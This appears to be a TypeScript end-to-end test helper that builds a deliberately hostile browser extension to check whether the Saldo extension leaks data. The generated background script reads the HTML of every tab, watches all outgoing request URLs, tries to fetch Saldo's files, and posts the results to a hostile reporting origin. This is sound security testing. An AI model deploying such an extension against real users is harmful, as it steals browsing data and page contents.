import { mkdir, mkdtemp, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { BrowserName } from '#e2e/browser/browser-driver.ts'
import { HOSTILE_ORIGIN } from './web-site.ts'

type Target = { readonly id: string; readonly root: string; readonly origin: string; readonly isChromium: boolean }

type Port = {
  readonly onMessage: { readonly addListener: (listener: (message: unknown) => void) => void }
  readonly onDisconnect: { readonly addListener: (listener: () => void) => void }
  readonly postMessage: (message: unknown) => void
}
type HostileApi = {
  readonly runtime: {
    readonly sendMessage: (id: string, message: unknown) => Promise<unknown>
    readonly connect: (id: string) => Port
  }
  readonly tabs: { readonly query: (query: object) => Promise<readonly { readonly id: number }[]> }
  readonly scripting: {
    readonly executeScript: (injection: object) => Promise<readonly { readonly result: unknown }[]>
  }
  readonly webRequest: {
    readonly onBeforeSendHeaders: {
      readonly addListener: (
        listener: (request: { readonly url: string }) => void,
        filter: object,
        extra: readonly string[],
      ) => void
    }
  }
}
declare const chrome: HostileApi

/** What the hostile extension got of each thing that it tried: "nothing", or "got …" with the beginning of it. */
export type HostileReport = {
  readonly message: string
  readonly connection: string
  readonly files: readonly string[]
  readonly tabs: readonly string[]
}

/** Runs in the background of the hostile extension, and again whenever one of the tabs is loaded. */
function attack({ id, root, origin, isChromium }: Target): void {
  const legal = { name: 'refresh', reason: 'user' }
  const report = (content: object) => fetch(`${origin}/report`, { method: 'POST', body: JSON.stringify(content) })
  const attempt = async (work: () => Promise<unknown>): Promise<string> => {
    try {
      const value = await work()
      return value === undefined ? 'nothing' : `got ${JSON.stringify(value).slice(0, 300)}`
    } catch {
      return 'nothing'
    }
  }
  const connect = () =>
    new Promise((resolve) => {
      const port = chrome.runtime.connect(id)
      port.onMessage.addListener(resolve)
      port.onDisconnect.addListener(() => resolve(undefined))
      port.postMessage(legal)
    })
  const paths = ['manifest.json', 'popup.html', 'options.html', 'background.js', 'icons/16.png', 'icon.svg']

  chrome.webRequest.onBeforeSendHeaders.addListener(
    ({ url }) => {
      if (!url.startsWith(`${origin}/report`)) void report({ seen: url })
    },
    { urls: ['<all_urls>'] },
    isChromium ? ['requestHeaders', 'extraHeaders'] : ['requestHeaders'],
  )
  const run = async () => {
    const tabs = await chrome.tabs.query({})
    const read = (tabId: number) =>
      chrome.scripting
        .executeScript({ target: { tabId }, func: () => document.documentElement.outerHTML })
        .then(([injection]) => injection?.result)
    await report({
      message: await attempt(() => chrome.runtime.sendMessage(id, legal)),
      connection: await attempt(connect),
      files: await Promise.all(paths.map((path) => attempt(() => fetch(root + path).then((file) => file.text())))),
      tabs: await Promise.all(tabs.map((tab) => attempt(() => read(tab.id)))),
    })
  }
  void run()
}

/** Writes an extension that may do all that one can ask for, and tries it on Saldo as soon as it is installed. */
export async function writeHostileExtension(
  browserName: BrowserName,
  saldo: { id: string; root: string },
): Promise<string> {
  const directory = await mkdtemp(join(tmpdir(), 'saldo-hostile-'))
  const isChromium = browserName === 'chromium'
  const target: Target = { ...saldo, origin: HOSTILE_ORIGIN, isChromium }
  const manifest = {
    manifest_version: 3,
    name: 'Hostile',
    version: '1',
    permissions: ['scripting', 'tabs', 'webRequest', 'storage'],
    host_permissions: ['<all_urls>'],
    background: isChromium ? { service_worker: 'background.js' } : { scripts: ['background.js'] },
    // Firefox would ask the site over https.
    content_security_policy: { extension_pages: "script-src 'self'" },
    browser_specific_settings: { gecko: { id: 'hostile@saldo.example' } },
  }
  await mkdir(directory, { recursive: true })
  await writeFile(join(directory, 'manifest.json'), JSON.stringify(manifest))
  await writeFile(join(directory, 'background.js'), `(${attack})(${JSON.stringify(target)})`)
  return directory
}
